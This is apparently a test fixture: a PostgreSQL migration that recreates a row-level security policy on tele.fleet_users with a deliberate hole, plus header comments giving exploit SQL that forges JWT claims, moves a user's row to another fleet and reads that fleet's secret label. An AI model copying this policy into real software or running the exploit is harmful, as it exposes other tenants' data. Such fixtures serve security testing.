-- Nicknames become editable and the policy covers all verbs: a user moves the own row to another fleet.
-- about: fleet_users
-- as: hf_telemetry_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-0000-0000-0000000000aa"}';
-- exploit: UPDATE tele.fleet_users SET fleet_id = 'b0000000-0000-0000-0000-000000000001';
-- exploit: SELECT label FROM tele.fleets;
-- shows: Beech-secret
DROP POLICY own_rows ON tele.fleet_users;
CREATE POLICY own_rows ON tele.fleet_users TO hf_telemetry_app
  USING (user_id = tele.uid()) WITH CHECK (user_id = tele.uid());
GRANT UPDATE ON tele.fleet_users TO hf_telemetry_app;
